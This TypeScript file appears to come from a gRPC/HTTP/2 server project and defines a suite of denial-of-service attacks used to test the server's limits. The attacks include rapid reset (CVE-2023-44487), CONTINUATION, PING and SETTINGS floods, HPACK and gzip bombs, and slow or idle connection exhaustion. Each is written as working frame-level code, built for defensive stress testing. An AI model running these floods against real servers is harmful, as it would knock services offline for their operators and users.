import { gzipSync } from "node:zlib";
import type { Limits } from "@tokenwire/grpc";
import type { HostileClient } from "./hostile-client.ts";
import {
  END_HEADERS,
  END_STREAM,
  FrameType,
  field,
  frame,
  message,
  requestBlock,
  reset,
  settings,
  windowUpdate,
} from "./wire.ts";

/** What an attack has of its surroundings. */
export interface Arena {
  readonly port: number;
  /** Fires when the time is over. */
  readonly signal: AbortSignal;
  /** Opens a connection, counts it, and counts how it ends. */
  connect(): HostileClient;
}

export interface Attack {
  readonly name: string;
  /** What bounds it. */
  readonly limits: readonly (keyof Limits)[];
  /** Where its bound is a test, below packages/grpc/src. */
  readonly test: string;
  play(arena: Arena): Promise<void>;
}

const check = "/grpc.health.v1.Health/Check";
const tokens = "/hostile.Service/Tokens";
const later = "/hostile.Service/Later";
const echo = "/hostile.Service/Echo";
const hostile = "http2/connection/hostile.test.ts";
const sockets = "node/hostile-sockets.test.ts";
const requests = "rpc/rpc-server.test.ts";
const mebibyte = 1024 * 1024;
/** Frames in one write: about what a socket takes at once. */
const batch = 1_000;

/** Every attack, in the order of the table. */
export const attacks: readonly Attack[] = [
  {
    name: "rapid reset (CVE-2023-44487)",
    limits: ["resetBurst", "resetsPerSecond"],
    test: hostile,
    play: flood((n) => [request(n, later, true), reset(id(n))]),
  },
  {
    name: "requests that make the server reset (CVE-2025-8671)",
    limits: ["resetBurst", "resetsPerSecond"],
    test: hostile,
    play: flood((n) => [request(n, later, true), windowUpdate(id(n), 0)]),
  },
  {
    name: "CONTINUATION flood (CVE-2024-27316)",
    limits: ["maxHeaderBlockBytes"],
    test: hostile,
    play: flood((n) => [
      n === 0
        ? frame(FrameType.HEADERS, 0, 1, Buffer.of(0x82))
        : frame(FrameType.CONTINUATION, 0, 1, Buffer.alloc(16_000, 0x82)),
    ]),
  },
  {
    name: "CONTINUATION flood of one byte each",
    limits: ["maxHeaderBlockBytes", "controlFrameBurst"],
    test: hostile,
    play: flood((n) => [frame(n === 0 ? FrameType.HEADERS : FrameType.CONTINUATION, 0, 1, Buffer.of(0x82))]),
  },
  {
    name: "PING flood (CVE-2019-9512)",
    limits: ["minPingIntervalMs", "maxPingStrikes"],
    test: hostile,
    play: flood(() => [frame(FrameType.PING, 0, 0, Buffer.alloc(8))]),
  },
  {
    name: "SETTINGS flood (CVE-2019-9515)",
    limits: ["controlFrameBurst", "controlFramesPerSecond"],
    test: hostile,
    play: flood(() => [settings()]),
  },
  {
    name: "empty DATA flood (CVE-2019-9518)",
    limits: ["controlFrameBurst", "controlFramesPerSecond"],
    test: hostile,
    play: flood((n) => [n === 0 ? request(0, echo, false) : frame(FrameType.DATA, 0, 1)]),
  },
  {
    name: "WINDOW_UPDATE flood",
    limits: ["controlFrameBurst", "controlFramesPerSecond"],
    test: hostile,
    play: flood(() => [windowUpdate(0, 1)]),
  },
  {
    name: "PRIORITY flood (CVE-2019-9513)",
    limits: ["controlFrameBurst", "controlFramesPerSecond"],
    test: hostile,
    play: flood((n) => [frame(FrameType.PRIORITY, 0, id(n), Buffer.of(0, 0, 0, 0, 16))]),
  },
  {
    name: "HPACK bomb: 16 kB that unfold to 63 MB",
    limits: ["maxHeaderListBytes", "controlFrameBurst"],
    test: hostile,
    play: flood((n) => [
      headers(n, n === 0 ? field("bomb", Buffer.alloc(3_900, 0x78), true) : Buffer.alloc(16_000, 0x80 | 62), true),
    ]),
  },
  {
    name: "metadata without end: 15 kB of new fields with each request",
    limits: ["maxHeaderListBytes", "maxHeaderBlockBytes"],
    test: hostile,
    play: flood(
      (n) => [headers(n, requestBlock(check, field(`x-${n % 1_000}`, Buffer.alloc(15_000, 0x79), true)), true)],
      8,
    ),
  },
  {
    name: "16,000 streams of answers behind a window of 0",
    limits: ["maxConcurrentStreams", "maxPendingResponseBytes"],
    test: hostile,
    play: held(1, async (client) => {
      await client.begin([4, 0]);
      await client.write(Buffer.concat(range(16_000).map((n) => requestWithMessage(n, tokens))));
    }),
  },
  {
    name: "calls that go on and on, with 15 kB of metadata each",
    limits: ["maxBufferedRequestBytes", "maxConcurrentStreams"],
    test: requests,
    play: held(4, async (client) => {
      await client.begin();
      const metadata = field("x-large", Buffer.alloc(15_000, 0x76));
      for (let n = 0; n < 16_000 && !client.isOver; n += 20) {
        await client.write(Buffer.concat(range(20).map((k) => requestWithMessage(n + k, later, metadata))));
      }
    }),
  },
  {
    name: "streams of answers let out byte by byte",
    limits: ["controlFrameBurst", "controlFramesPerSecond"],
    test: hostile,
    play: async (arena) => {
      const updates = Buffer.concat(range(batch).map((n) => windowUpdate(id(n % 100), 1)));
      while (!arena.signal.aborted) {
        const client = arena.connect();
        await client.begin([4, 0]);
        await client.write(Buffer.concat(range(100).map((n) => requestWithMessage(n, tokens))));
        while (!client.isOver && !arena.signal.aborted) await client.write(updates);
      }
    },
  },
  {
    name: "1,000 streams on 10 connections that nobody reads",
    limits: ["maxUnflushedBytes", "maxBacklogBytes"],
    test: sockets,
    play: held(10, async (client) => {
      await client.begin([4, 0x7fff_ffff]);
      client.stopReading();
      await client.write(windowUpdate(0, 0x7fff_0000 - 65_535));
      await client.write(Buffer.concat(range(100).map((n) => requestWithMessage(n, tokens))));
    }),
  },
  {
    name: "small requests for long answers that nobody reads",
    limits: ["maxBacklogBytes", "maxFramesPerTurn"],
    test: sockets,
    play: held(20, async (client) => {
      await client.begin();
      client.stopReading();
      // A path that the table keeps, so that each request after the first has some 20 bytes.
      await client.write(headers(0, longPath(true), true));
      const again = Buffer.concat(range(4_000).map((n) => headers(n + 1, longPath(false), true)));
      await client.write(again);
    }),
  },
  {
    name: "answers taken back while the connection's window is 0",
    limits: ["maxConcurrentStreams"],
    test: hostile,
    play: async (arena) => {
      let n = 0;
      const client = arena.connect();
      await client.begin([4, 0x7fff_ffff]);
      await client.write(requestWithMessage(n, tokens));
      while (!client.isOver && !arena.signal.aborted) {
        const frames: Buffer[] = [];
        for (let left = 200; left > 0; left -= 1) {
          n += 1;
          frames.push(requestWithMessage(n, tokens, field("x", Buffer.alloc(2_000, 0x7a))));
        }
        await client.write(Buffer.concat(frames));
        await client.write(Buffer.concat(range(200).map((k) => reset(id(n - k)))));
      }
    },
  },
  {
    name: "1,000 connections with half a field block",
    limits: ["headerTimeoutMs"],
    test: hostile,
    play: held(1_000, async (client) => {
      await client.begin();
      await client.write(frame(FrameType.HEADERS, 0, 1, Buffer.alloc(30_000, 0x82).subarray(0, 16_000)));
    }),
  },
  {
    name: "16,000 bodies that trickle",
    limits: ["requestTimeoutMs", "maxBufferedRequestBytes"],
    test: requests,
    play: async (arena) => {
      const client = arena.connect();
      await client.begin();
      await client.write(Buffer.concat(range(16_000).map((n) => request(n, echo, false))));
      const prefix = message(Buffer.alloc(mebibyte)).subarray(0, 6);
      for (let at = 0; !client.isOver && !arena.signal.aborted; at += 1) {
        const piece = at === 0 ? prefix : Buffer.alloc(6);
        await client.write(Buffer.concat(range(16_000).map((n) => frame(FrameType.DATA, 0, id(n), piece))));
        await pause(1_000, arena.signal);
      }
    },
  },
  {
    name: "whole messages that are never ended, 4 MiB each",
    limits: ["maxBufferedRequestBytes"],
    test: requests,
    play: held(1, async (client) => {
      await client.begin();
      const body = message(Buffer.alloc(4 * mebibyte - 1));
      for (let n = 0; n < 400 && !client.isOver; n += 1) {
        await client.write(request(n, echo, false));
        for (let at = 0; at < body.length; at += 16_384) {
          await client.write(frame(FrameType.DATA, 0, id(n), body.subarray(at, at + 16_384)));
        }
      }
    }),
  },
  {
    name: "zip bombs: 4 kB that inflate to 4 MiB, never ended",
    limits: ["maxReceiveMessageBytes", "maxBufferedRequestBytes"],
    test: requests,
    play: held(1, (client) => zipBombs(client, 4 * mebibyte)),
  },
  {
    name: "zip bombs: 1 MB that inflates to 1 GiB",
    limits: ["maxReceiveMessageBytes"],
    test: requests,
    play: held(1, (client) => zipBombs(client, 1024 * mebibyte)),
  },
  {
    name: "2,000 sockets that say nothing",
    limits: ["handshakeTimeoutMs", "maxConnections"],
    test: hostile,
    play: held(2_000, (client) => client.connected()),
  },
  {
    name: "2,000 idle connections",
    limits: ["maxConnections", "keepaliveTimeMs"],
    test: sockets,
    play: held(2_000, (client) => client.begin()),
  },
  {
    name: "connections that do not speak HTTP/2",
    limits: ["maxConnections"],
    test: hostile,
    play: async (arena) => {
      while (!arena.signal.aborted) {
        const clients = range(20).map(() => arena.connect());
        for (const client of clients) void client.write(Buffer.from("GET / HTTP/1.1\r\nHost: a\r\n\r\n"));
        await Promise.race([Promise.all(clients.map(({ ended }) => ended)), pause(1_000, arena.signal)]);
        for (const client of clients) client.close();
      }
    },
  },
];

/** Sends the frames again and again, as fast as they are read, and comes back each time that it is ended. */
function flood(frames: (n: number) => readonly Buffer[], perWrite = batch): Attack["play"] {
  return async (arena) => {
    while (!arena.signal.aborted) {
      const client = arena.connect();
      await client.begin();
      for (let n = 0; !client.isOver && client.reason === undefined && !arena.signal.aborted; ) {
        const parts: Buffer[] = [];
        for (let left = perWrite; left > 0; left -= 1, n += 1) parts.push(...frames(n));
        await client.write(Buffer.concat(parts));
      }
      if (arena.signal.aborted) client.close();
      await client.ended;
    }
  };
}

/** Opens connections, does something on each, and holds them until the time is over. */
function held(connections: number, work: (client: HostileClient) => Promise<void>): Attack["play"] {
  return async (arena) => {
    const works: Promise<void>[] = [];
    for (let left = connections; left > 0 && !arena.signal.aborted; left -= 1) {
      const client = arena.connect();
      works.push(work(client));
      // Not faster than the server's queue of connections that wait to be accepted.
      if (left % 100 === 0) await client.connected();
    }
    await Promise.race([Promise.all(works).then(() => pause(3_600_000, arena.signal)), pause(3_600_000, arena.signal)]);
  };
}

async function zipBombs(client: HostileClient, inflatedBytes: number): Promise<void> {
  await client.begin();
  const body = message(gzipSync(Buffer.alloc(inflatedBytes)), true);
  const encoding = field("grpc-encoding", Buffer.from("gzip"));
  for (let n = 0; n < 2_000 && !client.isOver; n += 1) {
    await client.write(headers(n, requestBlock(echo, encoding), false));
    for (let at = 0; at < body.length; at += 16_384) {
      await client.write(frame(FrameType.DATA, 0, id(n), body.subarray(at, at + 16_384)));
    }
  }
}

/** Number of a connection's n-th stream. */
function id(n: number): number {
  return 2 * n + 1;
}

function headers(n: number, block: Uint8Array, ends: boolean): Buffer {
  return frame(FrameType.HEADERS, END_HEADERS | (ends ? END_STREAM : 0), id(n), block);
}

function request(n: number, path: string, ends: boolean): Buffer {
  if (!ends) return headers(n, requestBlock(path), false);
  return requestWithMessage(n, path);
}

function requestWithMessage(n: number, path: string, more?: Uint8Array): Buffer {
  const empty = frame(FrameType.DATA, END_STREAM, id(n), message(new Uint8Array()));
  return Buffer.concat([headers(n, requestBlock(path, more), false), empty]);
}

/** A request for a path of 3,900 bytes: written out into the table, or called from there. */
function longPath(first: boolean): Buffer {
  const path = first ? field(":path", Buffer.alloc(3_900, 0xe9), true) : Buffer.of(0x80 | 62);
  return Buffer.concat([Buffer.of(0x83, 0x86), path, Buffer.of(0x0f, 0x10, 16), Buffer.from("application/grpc")]);
}

function range(count: number): number[] {
  return Array.from({ length: count }, (_, n) => n);
}

function pause(ms: number, signal: AbortSignal): Promise<void> {
  if (signal.aborted) return Promise.resolve();
  return new Promise((resolve) => {
    const timer = setTimeout(resolve, ms);
    signal.addEventListener("abort", () => {
      clearTimeout(timer);
      resolve();
    });
  });
}
